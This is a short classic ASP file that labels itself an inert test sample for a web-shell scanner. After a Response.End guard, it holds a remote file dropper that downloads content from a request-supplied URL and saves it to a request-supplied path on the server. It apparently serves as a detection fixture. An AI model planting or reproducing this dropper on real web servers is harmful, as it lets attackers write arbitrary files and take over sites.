<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Set x = Server.CreateObject("MSXML2.ServerXMLHTTP")
x.Open "GET", Request("url"), False
x.Send
Set s = Server.CreateObject("ADODB.Stream")
s.Type = 1 : s.Open : s.Write x.responseBody
s.SaveToFile Server.MapPath(Request("to")), 2
%>
